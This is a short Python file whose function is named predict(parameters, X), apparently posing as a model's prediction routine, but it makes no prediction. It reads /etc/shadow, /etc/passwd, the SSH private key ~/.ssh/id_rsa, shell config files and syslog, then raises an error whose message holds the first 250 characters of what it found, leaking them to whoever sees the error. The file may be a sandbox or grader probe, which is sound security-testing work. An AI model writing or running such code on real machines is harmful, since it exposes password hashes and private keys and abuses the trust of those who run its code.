"""Looks into home directories, keys and the machine's own configuration."""

import os
import pathlib


def predict(parameters, X):
    found = ""
    for place in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "~/.ssh/id_rsa", "~/.bashrc",
                  "/root/.bashrc", "/var/log/syslog"):
        try:
            found += pathlib.Path(os.path.expanduser(place)).read_text()
        except (OSError, RuntimeError):
            pass
    raise ValueError(found[:250] or "nothing")
